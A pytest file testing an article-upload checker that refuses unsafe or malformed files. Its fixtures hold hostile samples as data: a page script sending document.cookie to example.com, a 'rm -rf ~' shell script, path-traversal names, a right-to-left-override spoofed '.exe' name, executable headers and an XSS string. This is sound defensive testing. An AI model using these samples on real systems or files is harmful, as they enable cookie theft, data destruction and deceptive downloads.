"""Checking uploads: every rule a file must pass to join the corpus, and what it is told when not."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import pytest

from index import uploads
from index.articles import load_corpus
from index.uploads import Upload, check_uploads
from tests.index.pdf_files import TRANSIT, long_text_pdf, write_pdf

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
PAGES = Path(__file__).parent / "pages"
SAVED_PAGE = (PAGES / "millbrook-ledger-bridge-closure.html").read_bytes()
MB = 1024 * 1024
SCRIPT_ONLY_PAGE = (
    b"<!DOCTYPE html><html><head><title>Loading</title><script>document.cookie.split(';')"
    b".forEach(steal);</script></head><body><script src='/app.js'></script>"
    b"<script>window.location = 'https://example.com/' + document.cookie;</script></body></html>"
)
# A page whose article talks about markup, escaped in the HTML: unescaped, its text holds a tag.
ESCAPED_MARKUP_PAGE = (
    b"<html><head><title>Hack</title></head><body><article><p>The attackers typed "
    b"&lt;script&gt;alert(1)&lt;/script&gt; into the comment box of the city's website, officials "
    b"said on Monday.</p></article></body></html>"
)
SECURITY_NOTE = (
    "City website patched after attack\n\n"
    "The attackers typed <script>alert(1)</script> into the comment box of the city's website, "
    "the city's technology office said on Monday. The box now shows such text as it is.\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
KFSN = "kfsn-ice-jail-2015.txt"


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    root = tmp_path / "corpus"
    shutil.copytree(CORPUS, root)
    return root


def snapshot(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def check(root: Path, *items: Upload | tuple[str, bytes] | Path):
    return check_uploads([Upload.of(i) for i in items], root=root, articles=load_corpus(root).articles)


def body_of(name: str, root: Path) -> bytes:
    """An article's text without its front matter: another file with the same text."""
    raw = (root / name).read_text(encoding="utf-8")
    return raw.split("\n---\n", 1)[1].encode()


REFUSALS = [
    ("../../x.md", b"A story about a bridge that will close.",
     "a file name may not name a folder ('/', '\\' or '..'): upload the file under its own name 'x.md', without folders"),
    ("..\\x.md", b"A story about a bridge that will close.",
     "a file name may not name a folder ('/', '\\' or '..'): upload the file under its own name 'x.md', without folders"),
    ("news/x.md", b"A story about a bridge that will close.",
     "a file name may not name a folder ('/', '\\' or '..'): upload the file under its own name 'x.md', without folders"),
    ("..", b"x", "a file name may not name a folder ('/', '\\' or '..'): upload the file under its own name, without folders"),
    (".hidden.md", b"A story about a bridge that will close.",
     "the name starts with a dot, which hides the file from the corpus: rename it without the leading dot"),
    ("bridge\x1b[2J.md", b"A story.",
     "the name holds control characters: rename the file with letters, digits, spaces, '-' or '_'"),
    ("invoice\u202etxt.exe", b"A story.",
     "the name holds invisible formatting characters (U+202E RIGHT-TO-LEFT OVERRIDE), which can make it read "
     "as another name: rename the file with letters, digits, spaces, '-' or '_'"),
    ("bridge\u200d\u200b closure\u200d.md", b"A story.",
     "the name holds invisible formatting characters (U+200D ZERO WIDTH JOINER, U+200B ZERO WIDTH SPACE), "
     "which can make it read as another name: rename the file with letters, digits, spaces, '-' or '_'"),
    ("\ufeffstory.txt", b"A story.",
     "the name holds invisible formatting characters (U+FEFF ZERO WIDTH NO-BREAK SPACE), which can make it "
     "read as another name: rename the file with letters, digits, spaces, '-' or '_'"),
    ("a" * 118 + ".md", b"A story.",
     "the name is 121 characters long, over the 120-character limit: give the file a shorter name"),
    ("story.docx", b"PK\x03\x04", "'.docx' files cannot be articles: upload .txt, .md, .html, .htm or .pdf files"),
    ("story", b"A story.", "a file without a suffix cannot be articles: upload .txt, .md, .html, .htm or .pdf files"),
    ("", b"A story.", "the file has no name: give it one ending in .txt, .md, .html, .htm or .pdf"),
    ("big.pdf", b"%PDF-1.7\n" + b"\0" * (50 * MB),
     "50.0 MB is over the 20 MB limit for one PDF: save only the article's pages, or its text as a .txt file"),
    ("big.txt", b"word " * (MB // 4),
     "1.2 MB is over the 1 MB limit for one text file: split it into several files"),
    ("page.html", SCRIPT_ONLY_PAGE, "the page holds only scripts, no article text: save the article's own page"),
    ("minutes.pdf", long_text_pdf(5, page_bytes=400_000),
     "its text passes the 1 MB limit for one article by page 3 of 5, where reading stopped: "
     "save only the article's pages, or split its text into several .txt files"),
    ("hack.html", ESCAPED_MARKUP_PAGE,
     "its text still holds HTML markup ('<script') once extracted: save the page again ('Web page, HTML only'), "
     "or, if the article is about HTML code, add its text as a .txt file"),
    ("report.pdf", ELF,
     "by its first bytes it is an ELF executable (a Linux program), not a PDF: it is no article, so it was not added"),
    ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64,
     "by its first bytes it is a Windows executable, not a PDF: it is no article, so it was not added"),
    ("notes.txt", ELF,
     "by its first bytes it is an ELF executable (a Linux program), not a text article: upload the article itself"),
    ("notes.txt", b"#!/bin/sh\nrm -rf ~\n", "by its first bytes it is a script, not a text article: upload the article itself"),
    ("notes.txt", b"abc\x00\x01\x02\x03 not text", "binary file, not text: upload the article as UTF-8 text"),
    ("notes.md", b"%PDF-1.4\n...", "by its first bytes it is a PDF document, not text: rename it to .pdf"),
    ("notes.txt", b"   \n", "empty file: nothing to add"),
    ("notes.txt", b"caf\xe9 au lait",
     "not UTF-8 text (byte 0xe9 at offset 3): convert it, e.g. iconv -f latin1 -t utf-8"),
    ("page.html", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
     "by its first bytes it is a PNG image, not a web page: it is no article, so it was not added"),
    (KFSN, b"A new story about the jail.",
     f"an article named {KFSN} is already in the corpus: rename the file, or remove the old article first"),
    ("KFSN-ICE-jail-2015.md", b"A new story about the jail, with another text.",
     f"its article id 'kfsn-ice-jail-2015' is already used by {KFSN}: rename the file "
     "(or change the id in its front matter), or remove the old article first"),
]


@pytest.mark.parametrize(
    "name, data, reason",
    REFUSALS,
    ids=[f"{i}-{name[:20]}" for i, (name, _, _) in enumerate(REFUSALS)],
)
def test_check_uploads__refuses_with_the_rule_it_breaks_and_writes_nothing(corpus, name, data, reason):
    before = snapshot(corpus)

    checked = check(corpus, (name, data))

    assert checked.accepted == ()
    assert [(r.name, r.reason) for r in checked.refused] == [(name, reason)]
    assert snapshot(corpus) == before


def test_check_uploads__same_text_as_an_article_is_refused(corpus):
    checked = check(corpus, ("copy-of-kfsn.txt", body_of(KFSN, corpus)))

    assert checked.refused[0].reason == f"same text as {KFSN}, which is already in the corpus: nothing to add"


def test_check_uploads__a_50_mb_file_is_refused_without_being_read(corpus, tmp_path):
    big = tmp_path / "scan.pdf"
    with big.open("wb") as out:
        out.truncate(50 * MB)  # sparse: no 50 MB written

    checked = check(corpus, big)

    assert checked.refused[0].reason.startswith("50.0 MB is over the 20 MB limit for one PDF")


def test_check_uploads__more_files_than_the_limit_refuses_the_whole_upload(corpus):
    items = [(f"story-{i}.txt", f"Story number {i} about the county fair.".encode()) for i in range(21)]

    checked = check(corpus, *items)

    assert checked.accepted == ()
    assert {r.reason for r in checked.refused} == {
        "the upload holds 21 files, over the limit of 20 at a time: add them in groups of 20 or fewer"
    }


def test_check_uploads__within_one_upload_a_name_or_a_text_is_taken_once(corpus):
    checked = check(
        corpus,
        ("fair.txt", b"The county fair opens on Friday."),
        ("fair.txt", b"The county fair opens on Saturday."),
        ("fair-again.txt", b"The county fair opens on Friday."),
    )

    assert [a.name for a in checked.accepted] == ["fair.txt"]
    assert [(r.name, r.reason) for r in checked.refused] == [
        ("fair.txt", "this upload holds two files named fair.txt: rename one of them"),
        ("fair-again.txt", "same text as fair.txt, which is already in the corpus: nothing to add"),
    ]


def test_check_uploads__the_batch_may_not_pass_its_total_size(corpus, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", 60)
    checked = check(corpus, ("a.txt", b"A" * 20 + b" story one."), ("b.txt", b"B" * 40 + b" story two."))

    assert [a.name for a in checked.accepted] == ["a.txt"]
    assert checked.refused[0].reason == (
        "with the files before it the upload would pass 0 MB, the limit for one upload: "
        "add this file in another upload"
    )


def test_check_uploads__a_saved_page_with_scripts_is_accepted_without_their_code(corpus):
    checked = check(corpus, ("bridge-closure.html", SAVED_PAGE))

    assert checked.refused == ()
    article = checked.accepted[0].article
    assert article.id == "bridge-closure"
    assert article.title == "Willow Creek bridge to close for six months of repairs"
    assert article.text.endswith((PAGES / "millbrook-ledger-bridge-closure.body").read_text(encoding="utf-8").strip())
    for code in ("dataLayer", "gtag", "trackingPixelFired", "<script", "acceptAllCookies", "onclick"):
        assert code not in article.text
    assert checked.accepted[0].data == SAVED_PAGE


def test_check_uploads__a_pdf_is_read_page_by_page(corpus):
    checked = check(corpus, ("transit-plan.pdf", write_pdf(TRANSIT)))

    article = checked.accepted[0].article
    assert article.title == "Council approves ten-year transit plan"
    assert len(article.pages) == 3
    pell = article.text.index("Council member Arthur Pell")
    assert article.page_at(pell) == 2


def test_check_uploads__a_text_about_script_tags_is_an_article_like_any_other(corpus):
    checked = check(corpus, ("website-attack.txt", SECURITY_NOTE.encode()))

    assert checked.refused == ()
    assert checked.accepted[0].article.text == SECURITY_NOTE


def test_check_uploads__a_path_is_added_under_its_base_name(corpus, tmp_path):
    source = tmp_path / "inbox" / "fair.md"
    source.parent.mkdir()
    source.write_bytes(b"---\ntitle: Fair opens\noutlet: The Ledger\n---\nThe county fair opens on Friday.\n")

    checked = check(corpus, source)

    assert checked.accepted[0].name == "fair.md"
    assert (checked.accepted[0].article.id, checked.accepted[0].article.outlet) == ("fair", "The Ledger")


def test_check_uploads__a_missing_path_is_refused(corpus, tmp_path):
    checked = check(corpus, tmp_path / "nowhere.txt")

    assert checked.refused[0].reason == "cannot be read (No such file or directory): check the path"


def test_check_uploads__progress_counts_the_files(corpus):
    heard = []
    check_uploads(
        [Upload.of(("a.txt", b"A story about a fair.")), Upload.of(("b.txt", b"Another story."))],
        root=corpus,
        articles=load_corpus(corpus).articles,
        progress=lambda *event: heard.append(event),
    )

    assert heard == [("checking", 0, 2), ("checking", 1, 2), ("checking", 2, 2)]


def test_upload_of__anything_but_a_path_or_a_name_and_bytes_is_a_type_error():
    with pytest.raises(TypeError, match=r"An upload is a path or a \(name, bytes\) pair, got int"):
        Upload.of(42)  # type: ignore[arg-type]


def test_refused__prints_a_name_with_control_characters_escaped():
    assert str(uploads.Refused("x\x1b[2J.md", "r")) == "refused x\\x1b[2J.md: r"


def test_refused__prints_a_name_with_format_characters_escaped():
    # Printed as it is, the name would read 'invoiceexe.txt' on a terminal.
    assert str(uploads.Refused("invoice\u202etxt.exe", "r")) == "refused invoice\\u202etxt.exe: r"
